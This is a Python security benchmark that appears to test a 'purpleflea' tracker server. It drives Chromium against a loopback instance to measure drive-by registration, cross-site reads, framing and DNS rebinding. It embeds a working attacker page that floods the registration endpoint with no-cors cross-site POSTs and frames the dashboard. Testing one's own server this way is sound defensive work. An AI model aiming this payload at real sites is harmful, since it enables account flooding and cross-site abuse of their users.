"""A browser as the attacker's tool: what a page on another site makes its visitor's browser do
to a served tracker, measured with Debian's chromium.

Against a running ``purpleflea serve`` on loopback that names a public host (the same-machine
proxy setup of docs/security.md), its data folder and process id::

    purpleflea serve --source none --data-dir D --port PORT --allowed-host tracker.example
    .venv/bin/python bench/browser_attack.py --port PORT --pid PID --data-dir D

With ``--host 0.0.0.0`` added to the serve command it measures a server on the network
(bench/results/attack.md, branch ``hostguard``).

Chromium resolves ``tracker.example``, ``evil.example`` and ``rebind.example`` to 127.0.0.1
(``--host-resolver-rules``), so the tracker is a public name, the attacker's page another
site (served by this script on a port of its own), and ``rebind.example`` a name rebound to
the tracker's address. Printed:

- **drive-by registration**: the attacker's page sends ``--tries`` ``no-cors`` POSTs of
  ``{"account": ...}`` as ``text/plain`` to ``/v1/keys``, then two a second while it stays
  open; how many accounts the tracker made in ``--seconds`` (from its ``keys.sqlite``), and
  what the visitor's own registration on the tracker's page got then (the same address: the
  registration budget is per address);
- **reading across sites**: whether the page's ``fetch`` of ``/v1/health`` could read it;
- **framing**: whether the dashboard loads in the page's ``<iframe>``;
- **DNS rebinding**: what ``rebind.example`` gets for the dashboard and for a registration;
- the server's CPU over the whole run (/proc).

Results: bench/results/attack.md ("Sixth round").
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import sqlite3
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from playwright.async_api import Page, async_playwright

from procfs import cpu_seconds

CHROMIUM = "/usr/bin/chromium"

ATTACK_PAGE = """<!doctype html><title>cute cats</title>
<iframe id="frame" src="http://tracker.example:{port}/"></iframe>
<script>
window.done = (async () => {{
  const sent = [];
  for (let i = 0; i < {tries}; i++) {{
    try {{
      await fetch("http://tracker.example:{port}/v1/keys", {{
        method: "POST", mode: "no-cors",
        body: JSON.stringify({{account: "drive-by-" + i}}),
      }});
      sent.push("sent");
    }} catch (e) {{ sent.push("error " + e); }}
  }}
  // Then one more every half second, for as long as the visitor keeps the page open.
  let n = {tries};
  setInterval(() => fetch("http://tracker.example:{port}/v1/keys", {{
    method: "POST", mode: "no-cors", body: JSON.stringify({{account: "drive-by-" + n++}}),
  }}), 500);
  let read;
  try {{
    const r = await fetch("http://tracker.example:{port}/v1/health");
    read = "read: " + (await r.text()).slice(0, 40);
  }} catch (e) {{ read = "blocked: " + e; }}
  return {{sent, read}};
}})();
</script>"""


@contextlib.contextmanager
def attacker_site(port: int, tries: int) -> Iterator[int]:
    """The attacker's page on a port of its own; yields that port."""
    body = ATTACK_PAGE.format(port=port, tries=tries).encode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()


def drive_by_accounts(data_dir: Path) -> int:
    url = f"file:{data_dir / 'keys.sqlite'}?mode=ro"
    with contextlib.closing(sqlite3.connect(url, uri=True)) as db:
        row = db.execute("SELECT COUNT(*) FROM api_accounts WHERE account LIKE 'drive-by-%'")
        return int(row.fetchone()[0])


async def own_registration(page: Page, account: str) -> str:
    """A registration as the dashboard makes it (a same-origin fetch from ``page``)."""
    result: str = await page.evaluate(
        """async (account) => {
          try {
            const r = await fetch("/v1/keys", {method: "POST",
              headers: {"Content-Type": "application/json"},
              body: JSON.stringify({account, name: "dashboard"})});
            const body = await r.json();
            return r.status + " " + (body.error ? body.error.code : "key made");
          } catch (e) { return "error " + e; }
        }""",
        account,
    )
    return result


async def run(port: int, pid: int, data_dir: Path, tries: int, seconds: float) -> None:
    rules = ", ".join(f"MAP {name}.example 127.0.0.1" for name in ("tracker", "evil", "rebind"))
    before_cpu = cpu_seconds(pid)
    before_accounts = drive_by_accounts(data_dir)
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path=CHROMIUM,
            args=["--no-sandbox", "--disable-gpu", f"--host-resolver-rules={rules}"],
        )
        context = await browser.new_context()
        with attacker_site(port, tries) as evil_port:
            evil = await context.new_page()
            await evil.goto(f"http://evil.example:{evil_port}/")
            outcome = await evil.evaluate("window.done")
            frame = next((f for f in evil.frames if f is not evil.main_frame), None)
            framed = "no frame"
            if frame is not None:
                try:
                    framed = f"loaded: {await frame.title()!r} at {frame.url}"
                except Exception as exc:  # a blocked frame is what we look for
                    framed = f"blocked ({type(exc).__name__})"
                if frame.url.startswith("chrome-error:"):
                    framed = "blocked (chrome-error page)"
            # The visitor goes on with the attacker's page open in another tab.
            await asyncio.sleep(seconds)
            made = drive_by_accounts(data_dir) - before_accounts
            page = await context.new_page()
            await page.goto(f"http://tracker.example:{port}/")
            own = await own_registration(page, f"visitor-{time.time_ns()}")
        print(
            f"drive-by registration: {tries} no-cors POSTs at once ({set(outcome['sent'])}), "
            f"then 2 a second: {made} accounts made in {seconds:g} s"
        )
        print(f"the visitor's own registration on the tracker's page meanwhile: {own}")
        print(f"reading /v1/health from the page: {outcome['read']}")
        print(f"the dashboard in the page's iframe: {framed}")
        rebound = await context.new_page()
        answer = await rebound.goto(f"http://rebind.example:{port}/")
        status = answer.status if answer is not None else "none"
        print(
            f"DNS rebinding: GET / as rebind.example: {status}; "
            f"a registration from it: {await own_registration(rebound, 'rebound')}"
        )
        await browser.close()
    print(f"server CPU over the run: {cpu_seconds(pid) - before_cpu:.2f} s")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--pid", type=int, required=True)
    parser.add_argument("--data-dir", type=Path, required=True)
    parser.add_argument("--tries", type=int, default=20)
    parser.add_argument("--seconds", type=float, default=15.0)
    args = parser.parse_args()
    asyncio.run(run(args.port, args.pid, args.data_dir, args.tries, args.seconds))


if __name__ == "__main__":
    main()
